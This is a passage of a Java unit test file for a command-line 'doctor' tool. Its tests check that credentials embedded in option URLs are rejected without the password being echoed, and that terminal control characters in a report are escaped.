  @ValueSource(strings = {"--realm", "--registry"})
  void userinfo_ofAnOption_isRefused(String option) {
    StringWriter err = new StringWriter();
    int status =
        Main.commandLine()
            .setErr(new PrintWriter(err, true))
            .execute("doctor", option + "=https://user:" + PASSWORD + "@example.com/auth");
    assertThat(status).isEqualTo(2);
    assertThat(err.toString()).contains(option + " has a user name").doesNotContain(PASSWORD);
  }

  @Test
  void report_ofControlCharacters_escapesThem() {
    Report report =
        new Report(
            List.of(), List.of(new Report.NotChecked("a\u001b[31m\nb", "\u202e")), List.of());
    assertThat(report.text()).contains("a\\u001b[31m\\u000ab: \\u202e").hasLineCount(2);
  }
}
